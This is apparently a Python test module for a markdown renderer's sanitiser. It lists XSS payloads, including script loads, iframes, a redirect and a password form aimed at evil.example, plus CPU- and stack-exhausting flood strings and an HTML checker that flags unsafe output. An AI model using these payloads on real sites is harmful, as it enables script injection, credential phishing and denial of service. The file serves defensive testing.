"""Hostile input, by class. Every surface a reader or curator can type into gets all of it.

`XSS` tries to run script, leave the page, or restyle it; `FLOODS` try to cost CPU or stack
(each is built to the size limit of a reader's answer, 20,000 characters).
"""

from html.parser import HTMLParser

_SCHEMES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java&#x09;script:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "javascript&colon;alert(1)",
    "%6Aavascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "VBScript:msgbox(1)",
    "file:///etc/passwd",
]

XSS = (
    [f"[click]({url})" for url in _SCHEMES]
    + [f"![x]({url})" for url in _SCHEMES[:6]]
    + [f"[ref][r]\n\n[r]: {url}" for url in _SCHEMES[:6]]
    + [f"<{url}>" for url in _SCHEMES[:4]]
    + [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        '<a href="javascript:alert(1)">x</a>',
        '<a href="&#106;avascript:alert(1)">x</a>',
        '<img src=x onerror="alert(1)">',
        "<img src=x onerror=alert(1)//",
        '<p onclick="steal()">hi</p>',
        '<div onmouseover="alert(1)">hover</div>',
        '<body onload="alert(1)">',
        '<iframe src="https://evil.example"></iframe>',
        '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
        '<object data="javascript:alert(1)"></object>',
        '<embed src="javascript:alert(1)">',
        '<svg onload="alert(1)"><circle/></svg>',
        "<svg><script>alert(1)</script></svg>",
        '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
        '<svg><animate onbegin="alert(1)" attributeName="x"/></svg>',
        "<math><mi><mglyph><style><img src=x onerror=alert(1)>",
        '<math href="javascript:alert(1)">x</math>',
        "<math><maction actiontype=statusline#http://evil.example>x</maction></math>",
        '<p style="position:fixed;top:0;left:0;width:100%;height:100%">covered</p>',
        "<style>body{display:none}</style>",
        '<link rel="stylesheet" href="https://evil.example/x.css">',
        '<meta http-equiv="refresh" content="0;url=https://evil.example">',
        '<base href="https://evil.example/">',
        '<form action="https://evil.example"><input name="pw"></form>',
        '<button formaction="javascript:alert(1)">x</button>',
        '<details open ontoggle="alert(1)">',
        '<marquee onstart="alert(1)">',
        '<video><source onerror="alert(1)"></video>',
        '<a href="https://ok.example" target="_blank">tabnab</a>',
        "</textarea><script>alert(1)</script>",
        '"><script>alert(1)</script>',
        "'><img src=x onerror=alert(1)>",
        "<!--<script>alert(1)//-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
        '![alt" onerror="alert(1)](https://ok.example/a.png)',
        '![a](https://ok.example/a.png"onerror="alert(1))',
        '[x](https://ok.example "title" onclick="alert(1)")',
        "$\\href{javascript:alert(1)}{click}$",
        "$$\n\\href{javascript:alert(1)}{x}\n$$",
        "$\\style{color:red}{x}$",
        "$\\unicode{<script>}$",
        "$\\text{<img src=x onerror=alert(1)>}$",
        "```\n</code></pre><script>alert(1)</script>\n```",
        "`<script>alert(1)</script>`",
        "| a |\n|---|\n| <script>alert(1)</script> |",
        "<div><div><div><script>alert(1)</script></div></div></div>",
        "<<script>script>alert(1)<</script>/script>",
        "\u202e<script>alert(1)</script>",
    ]
)

FLOODS = [
    "- " * 10_000,
    "1. " * 6_666,
    "> " * 10_000,
    "* " * 10_000,
    "[" * 20_000,
    "![" * 10_000,
    "[a](" * 5_000,
    "](" * 10_000,
    "*" * 10_000 + "a" + "*" * 10_000,
    "*a " * 6_666,
    "_" * 20_000,
    "`" * 20_000,
    "<" * 20_000,
    "&#" * 10_000,
    "[a]: " * 4_000,
    "|a" * 5_000 + "\n" + "|-" * 5_000,
    "".join("  " * depth + "- x\n" for depth in range(400))[:20_000],
    "$" * 20_000,
    "$a" * 10_000,
    "$" + "{" * 9_998 + "$",
    "$" + "\\frac{1}{" * 2_000 + "$",
    ("$x$ " * 5_000)[:20_000],
    "$$\n" + "x^" * 9_000 + "x\n$$",
    "\\" * 20_000,
    "~~" * 10_000,
    "#" * 20_000,
    "\n" * 20_000,
    "a\n" * 10_000,
]

ALL = XSS + FLOODS

SAFE_SCHEMES = ("http://", "https://", "mailto:", "#", "/")
FORBIDDEN_TAGS = {
    "script", "iframe", "object", "embed", "style", "link", "meta", "base", "form", "input",
    "button", "svg", "img", "video", "audio", "source", "details", "marquee", "body", "textarea",
}  # fmt: skip


class _Collector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems = []

    def handle_starttag(self, tag, attrs):
        if tag in FORBIDDEN_TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name in {"style", "srcdoc", "formaction", "xlink:href", "target"}:
                self.problems.append(f"{tag}[{name}]")
            if name in {"href", "src", "action", "data"} and not (value or "").strip().lower().startswith(
                SAFE_SCHEMES
            ):
                self.problems.append(f"{tag}[{name}={value!r}]")


def inert_problems(rendered_html):
    """What in `rendered_html` could run script, leave the page or restyle it (empty when inert)."""
    collector = _Collector()
    collector.feed(rendered_html)
    collector.close()
    return collector.problems
